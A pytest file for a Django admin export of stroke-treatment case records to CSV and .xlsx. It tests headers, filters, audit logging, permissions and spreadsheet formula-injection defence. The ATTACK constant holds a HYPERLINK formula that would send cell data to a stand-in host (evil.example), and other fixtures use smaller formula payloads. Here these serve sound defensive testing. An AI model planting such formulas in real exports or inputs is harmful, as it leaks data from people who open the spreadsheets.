"""导出个案 (issue 21 item 3): the cases the admin list shows, streamed as CSV or .xlsx, with
every text made inert, for staff who may view the cases; recorded in the audit log."""

import codecs
import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AuditEvent
from excel_templates import case_exports, streaming
from tests.casesets.conftest import make_report
from tests.casesets.helpers import at, make_evt, make_ivt
from tests.factories import AuditorFactory, InstitutionFactory, UserFactory
from tests.inert import assert_no_live_formula

pytestmark = pytest.mark.django_db

IVT_EXPORT = reverse("admin:casesets_thrombolysiscase_export")
EVT_EXPORT = reverse("admin:casesets_interventioncase_export")
IVT_LIST = reverse("admin:casesets_thrombolysiscase_changelist")
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def desk(client, auditor, settings):
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "export": (None, None)}
    client.force_login(auditor)
    return client


@pytest.fixture
def cases(report, report_b, alice):
    make_ivt(report, admission_no="A1", onset_at=at(3, 1, 8, 5), thrombolytic_drug="urokinase")
    make_ivt(report, admission_no="A2", thrombolytic_drug="other", thrombolytic_drug_other=ATTACK)
    make_ivt(report_b, admission_no="B1")
    make_ivt(make_report(alice.institution, data_year=2024), admission_no="OLD")


def csv_rows(response):
    assert response.status_code == 200, getattr(response, "content", b"")[:300]
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def by_id(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def test_the_csv_streams_and_its_first_chunk_is_the_header(desk, cases):
    response = desk.get(IVT_EXPORT, {"format": "csv"})

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == streaming.CSV
    assert response["Content-Disposition"].startswith("attachment;")
    assert ".csv" in response["Content-Disposition"]
    first = next(iter(response.streaming_content))
    header = first.decode("utf-8-sig").strip().split(",")
    assert header[:3] == ["医疗机构", "行政区划代码", "行政区划"]
    assert header[3:6] == ["数据年度", "报告状态", "个案编号"]
    assert header[6:12] == [
        "治疗前NIHSS评分",
        "出院时NIHSS评分",
        "出院时mRS评分",
        "溶栓用药（阿替普酶/尿激酶）",
        "其他溶栓用药(溶栓用药选择其他时填写）",
        "发病时间",
    ]
    assert header[-1] == "已删除"


def test_the_csv_holds_the_cases_in_the_template_order_without_admission_numbers(
    desk, cases, report
):
    rows = by_id(csv_rows(desk.get(IVT_EXPORT, {"format": "csv"})))

    assert len(rows) == 4
    first = next(row for row in rows if row["发病时间"])
    case = report.thrombolysis_cases.get(admission_no="A1")
    assert first["个案编号"] == str(case.public_id)
    assert (first["医疗机构"], first["行政区划代码"], first["行政区划"]) == (
        "甲医院",
        "110101",
        "北京市市辖区东城区",
    )
    assert (first["数据年度"], first["报告状态"], first["已删除"]) == ("2025", "未提交", "否")
    assert first["溶栓用药（阿替普酶/尿激酶）"] == "尿激酶"
    assert first["发病时间"] == "2025-03-01 08:05"  # Beijing time
    assert first["治疗前NIHSS评分"] == "10"
    body = "\n".join(",".join(row.values()) for row in rows)
    for number in ("A1", "A2", "B1", "OLD"):
        assert number not in body.split(",")  # 住院号 never leaves in an export


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"report__data_year": "2024"}, ["甲医院"]),
        ({"report__data_year": "2025"}, ["乙医院", "甲医院", "甲医院"]),
        ({"province": "440000"}, ["乙医院"]),
        ({"province": "110000", "report__data_year": "2025"}, ["甲医院", "甲医院"]),
        ({"thrombolytic_drug": "urokinase"}, ["甲医院"]),
        ({"q": "乙医院"}, ["乙医院"]),
        ({"q": "a"}, ["甲医院", "甲医院"]),  # 住院号 A1, A2
    ],
)
def test_the_export_follows_the_lists_filters_and_search(desk, cases, query, expected):
    rows = by_id(csv_rows(desk.get(IVT_EXPORT, {**query, "format": "csv"})))

    assert sorted(row["医疗机构"] for row in rows) == expected


def test_text_that_looks_like_a_formula_is_inert_in_the_csv(desk, report):
    hostile = InstitutionFactory(name="@SUM(1,1)")
    make_ivt(make_report(hostile), admission_no="H1", thrombolytic_drug="other",
             thrombolytic_drug_other=ATTACK)  # fmt: skip
    make_ivt(report, admission_no="H2", thrombolytic_drug="other", thrombolytic_drug_other="-2+3")

    rows = by_id(csv_rows(desk.get(IVT_EXPORT, {"format": "csv"})))

    other = "其他溶栓用药(溶栓用药选择其他时填写）"
    assert sorted(row[other] for row in rows) == sorted(["'" + ATTACK, "'-2+3"])
    assert "'@SUM(1,1)" in [row["医疗机构"] for row in rows]
    assert all(row["治疗前NIHSS评分"] == "10" for row in rows)  # numbers stay numbers


def test_the_xlsx_streams_and_holds_the_same_rows_inert(desk, cases):
    response = desk.get(IVT_EXPORT, {"format": "xlsx"})

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == streaming.XLSX
    chunks = list(response.streaming_content)
    assert chunks[0].startswith(b"PK")  # the zip's first part, before any row was read
    workbook = load_workbook(io.BytesIO(b"".join(chunks)))
    assert assert_no_live_formula(workbook) > 0
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(2, values_only=True)]
    assert len(rows) == 4
    hostile = next(row for row in rows if row["其他溶栓用药(溶栓用药选择其他时填写）"])
    assert hostile["其他溶栓用药(溶栓用药选择其他时填写）"] == ATTACK  # as typed, quote-prefixed
    timed = next(row for row in rows if row["发病时间"])
    assert timed["发病时间"].strftime("%Y-%m-%d %H:%M") == "2025-03-01 08:05"
    assert timed["治疗前NIHSS评分"] == 10
    assert sheet.freeze_panes == "B2"


def test_intervention_cases_show_several_choices_joined(desk, report):
    make_evt(report, admission_no="E1", occlusion_sites=["mca_m1", "ba"], mtici="2b",
             arrival_at=at(4, 2, 8, 0), puncture_at=at(4, 2, 9, 10))  # fmt: skip

    (row,) = by_id(csv_rows(desk.get(EVT_EXPORT, {"format": "csv"})))

    assert row["闭塞部位"] == "大脑中动脉M1段、基底动脉"
    assert row["再灌注结局（mTICI）"] == "2b"
    assert row["治疗方式"] == "桥接"
    assert row["DPT（到院至动脉穿刺，分钟）"] == "70"  # the derived intervals follow the fields


def test_rows_are_read_chunk_by_chunk_each_once(desk, report, monkeypatch):
    monkeypatch.setattr(case_exports, "CHUNK", 2)
    made = [make_ivt(report, admission_no=f"C{n}") for n in range(5)]

    rows = by_id(csv_rows(desk.get(IVT_EXPORT, {"format": "csv"})))

    assert [row["个案编号"] for row in rows] == [str(case.public_id) for case in made]


def test_deleted_cases_are_marked(desk, report):
    from django.utils import timezone

    make_ivt(report, admission_no="D1", deleted_at=timezone.now())

    (row,) = by_id(csv_rows(desk.get(IVT_EXPORT, {"format": "csv", "deleted": "yes"})))

    assert row["已删除"] == "是"


def test_the_export_is_recorded_with_its_filters_but_not_the_search(desk, cases, auditor):
    query = {"format": "csv", "report__data_year": "2025", "q": "A1"}
    response = desk.get(IVT_EXPORT, query, REMOTE_ADDR="10.0.0.7")

    assert response.status_code == 200
    event = AuditEvent.objects.get(action="export")
    assert (event.user, event.ip) == (auditor, "10.0.0.7")
    assert event.detail == {
        "kind": "thrombolysis_cases",
        "format": "csv",
        "rows": 1,
        "filters": {"report__data_year": "2025", "searched": True},
    }
    assert "A1" not in str(event.detail)


def test_the_list_offers_both_exports_with_its_filters(desk, cases):
    page = desk.get(IVT_LIST, {"report__data_year": "2025"}).text

    assert f'href="{IVT_EXPORT}?report__data_year=2025&amp;format=csv"' in page
    assert f'href="{IVT_EXPORT}?report__data_year=2025&amp;format=xlsx"' in page


# Who may export ------------------------------------------------------------------------------


def test_anonymous_and_hospital_users_are_sent_to_the_admin_login(client, cases, alice):
    assert client.get(IVT_EXPORT).url.startswith(reverse("admin:login"))
    client.force_login(alice)
    response = client.get(IVT_EXPORT)
    assert response.status_code == 302
    assert response.url.startswith(reverse("admin:login"))
    assert not AuditEvent.objects.filter(action="export").exists()


def test_staff_without_the_view_permission_are_refused(client, cases):
    client.force_login(AuditorFactory(auditor_group=False))

    assert client.get(IVT_EXPORT).status_code == 403


def test_staff_with_the_view_permission_may_export(client, cases, settings):
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "export": (None, None)}
    viewer = AuditorFactory(auditor_group=False)
    viewer.user_permissions.add(Permission.objects.get(codename="view_thrombolysiscase"))
    client.force_login(viewer)

    assert len(csv_rows(client.get(IVT_EXPORT, {"format": "csv"}))) == 5
    assert client.get(EVT_EXPORT).status_code == 403


def test_exports_count_against_the_export_rate_limit(client, cases, settings):
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "export": ("1/h", None)}
    client.force_login(UserFactory(username="staffer", is_staff=True, is_superuser=True,
                                   institution=None))  # fmt: skip

    assert client.get(IVT_EXPORT, {"format": "csv"}).status_code == 200
    assert client.get(IVT_EXPORT, {"format": "csv"}).status_code == 429
